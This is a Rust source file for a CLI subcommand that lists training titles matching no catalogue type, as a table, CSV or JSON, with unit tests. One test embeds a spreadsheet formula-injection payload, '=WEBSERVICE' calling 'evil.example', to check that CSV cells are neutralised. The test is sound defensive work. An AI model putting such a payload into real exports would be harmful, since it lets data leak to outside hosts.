//! `passeport catalogue unmapped`: the declared trainings of the account whose title maps to no
//! catalogue type (« type non reconnu »), read from the server, with how to add an alias.

use std::path::Path;
use std::process::ExitCode;

use clap::{Args, ValueEnum};
use color_eyre::eyre::{Result, WrapErr};

use super::super::export::write_stdout;
use super::super::launch::client_for;
use super::super::spreadsheet;
use crate::api::contract::UnmappedTitle;
use crate::config::Config;
use crate::rules::Rules;
use crate::text::sanitize;

/// `passeport catalogue unmapped` arguments.
#[derive(Debug, Clone, Args)]
pub struct UnmappedArgs {
    /// Format de sortie : tableau aligné suivi de la marche à suivre, csv ou json pour les
    /// scripts.
    #[arg(long, value_enum, default_value_t = UnmappedFormat::Table)]
    pub format: UnmappedFormat,
}

/// Output format (variant docs are the French help of `--format`).
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub enum UnmappedFormat {
    /// Tableau aligné, un intitulé par ligne, puis comment ajouter un alias.
    Table,
    /// CSV pour les scripts : séparateur « , », UTF-8 sans BOM, dates AAAA-MM-JJ.
    Csv,
    /// Tableau JSON d'objets, aux champs de csv.
    Json,
}

/// The header of the CSV (also written when there is no row); the fields of the JSON objects.
pub const CSV_COLUMNS: [&str; 4] = ["title", "entries", "last_reference", "last_declared_on"];

/// Help of `passeport catalogue unmapped`: columns and examples.
pub fn help() -> String {
    format!(
        "Colonnes de csv et json : {}.\n\
         Un intitulé ajouté aux aliases d'un type dans catalogue.toml du dossier de configuration \
         du serveur est reconnu au redémarrage du serveur : ses entrées prennent ce type et son \
         échéance.\n\n\
         Exemples :\n  passeport catalogue unmapped\n  \
         passeport catalogue unmapped --format csv > intitules.csv",
        CSV_COLUMNS.join(", ")
    )
}

/// `passeport catalogue unmapped`: asks the configured server (or the sandbox) and prints the
/// titles, quietly stopping on a closed pipe.
pub async fn run(args: &UnmappedArgs, config_path: &Path, rules: Rules) -> Result<ExitCode> {
    let config = Config::load(config_path)?;
    let (client, sandbox) = client_for(&config, &rules).await?;
    let titles = client
        .unmapped_titles()
        .await
        .wrap_err("lecture des intitulés non reconnus impossible")?
        .items;
    let text = match args.format {
        UnmappedFormat::Table => {
            let here = config_path
                .parent()
                .filter(|dir| !dir.as_os_str().is_empty());
            to_table(&titles, if sandbox { here } else { None })
        }
        UnmappedFormat::Csv => to_csv(&titles)?,
        UnmappedFormat::Json => crate::json::document(&titles)?,
    };
    write_stdout(text)?;
    Ok(ExitCode::SUCCESS)
}

/// CSV with a header row, for scripts.
pub fn to_csv(titles: &[UnmappedTitle]) -> Result<String> {
    spreadsheet::script_csv(&CSV_COLUMNS, titles)
}

/// Column headers of the table; the title comes last, unpadded.
const HEADERS: [&str; 4] = ["Entrées", "Dernière déclaration", "Le", "Intitulé déclaré"];

/// The aligned table (text from the server sanitised), then how to add an alias in
/// `catalogue.toml` of the server's config directory: `sandbox_dir` for the embedded sandbox,
/// which reads its rules there; a remote server's is the one of its `passeport serve`.
pub fn to_table(titles: &[UnmappedTitle], sandbox_dir: Option<&Path>) -> String {
    if titles.is_empty() {
        return "Aucune formation déclarée sans type du catalogue.\n".to_owned();
    }
    let rows: Vec<[String; 4]> = titles
        .iter()
        .map(|t| {
            [
                t.entries.to_string(),
                sanitize(t.last_reference.as_deref().unwrap_or("–")),
                t.last_declared_on
                    .map_or_else(|| "–".to_owned(), |d| d.format("%d/%m/%Y").to_string()),
                format!("« {} »", sanitize(&t.title)),
            ]
        })
        .collect();
    let mut widths = HEADERS.map(|h| h.chars().count());
    for cells in &rows {
        for (width, cell) in widths.iter_mut().zip(cells) {
            *width = (*width).max(cell.chars().count());
        }
    }
    let mut out = line(&HEADERS.map(str::to_owned), &widths);
    for cells in &rows {
        out.push_str(&line(cells, &widths));
    }
    let file = sandbox_dir.map_or_else(
        || {
            "catalogue.toml du dossier de la configuration de « passeport serve » (par défaut \
             ~/.config/passeport/)"
                .to_owned()
        },
        |dir| dir.join("catalogue.toml").display().to_string(),
    );
    out.push_str(&format!(
        "\n{} intitulé(s) sans type du catalogue : « type non reconnu », sans échéance.\n\
         Pour en rattacher un à un type, ajoutez l'intitulé aux aliases de ce type \
         (aliases = [\"…\"]) dans {file}, copie de assets/catalogue.toml, puis redémarrez le \
         serveur.\n",
        titles.len()
    ));
    out
}

/// One aligned line; the last cell is not padded, the first (a number) is right-aligned.
fn line(cells: &[String; 4], widths: &[usize; 4]) -> String {
    let mut out = String::new();
    for (index, (cell, width)) in cells.iter().zip(widths).enumerate() {
        let pad = " ".repeat(width.saturating_sub(cell.chars().count()));
        match index {
            0 => out.push_str(&format!("{pad}{cell}  ")),
            3 => out.push_str(cell),
            _ => out.push_str(&format!("{cell}{pad}  ")),
        }
    }
    out.push('\n');
    out
}

#[cfg(test)]
mod tests {
    use chrono::NaiveDate;

    use super::*;

    fn title(name: &str, entries: u64, reference: Option<&str>) -> UnmappedTitle {
        UnmappedTitle {
            title: name.to_owned(),
            entries,
            last_reference: reference.map(str::to_owned),
            last_declared_on: NaiveDate::from_ymd_opt(2026, 10, 6),
        }
    }

    #[test]
    fn the_table_aligns_titles_and_says_where_to_add_an_alias() {
        let table = to_table(
            &[
                title("Nacelle maison", 12, Some("REF-1")),
                title("Gestes \u{1b}[31mpostures", 3, None),
            ],
            Some(Path::new("/home/rh/.config/passeport")),
        );
        let lines: Vec<&str> = table.lines().collect();
        assert_eq!(
            lines[1],
            "     12  REF-1                 06/10/2026  « Nacelle maison »"
        );
        assert!(lines[2].starts_with("      3  –"), "{table}");
        assert!(!table.contains('\u{1b}'), "sanitised: {table}");
        let column = |line: &str| line.split("06/10").next().unwrap().chars().count();
        assert_eq!(column(lines[1]), column(lines[2]), "aligned: {table}");
        assert!(
            table.contains("/home/rh/.config/passeport/catalogue.toml"),
            "{table}"
        );
        assert!(table.contains("aliases"), "{table}");
        let remote = to_table(&[title("Nacelle maison", 1, None)], None);
        assert!(remote.contains("« passeport serve »"), "{remote}");
    }

    #[test]
    fn an_empty_list_says_so_and_csv_keeps_its_header() {
        assert_eq!(
            to_table(&[], None),
            "Aucune formation déclarée sans type du catalogue.\n"
        );
        assert_eq!(
            to_csv(&[]).unwrap(),
            "title,entries,last_reference,last_declared_on\n"
        );
        assert_eq!(
            to_csv(&[title("A, b", 2, Some("R"))]).unwrap(),
            "title,entries,last_reference,last_declared_on\n\"A, b\",2,R,2026-10-06\n"
        );
    }

    #[test]
    fn csv_cells_cannot_be_formulas() {
        assert_eq!(
            to_csv(&[title("=WEBSERVICE(\"http://evil.example\")", 1, Some("+1"))]).unwrap(),
            "title,entries,last_reference,last_declared_on\n\
             \"'=WEBSERVICE(\"\"http://evil.example\"\")\",1,'+1,2026-10-06\n"
        );
    }
}
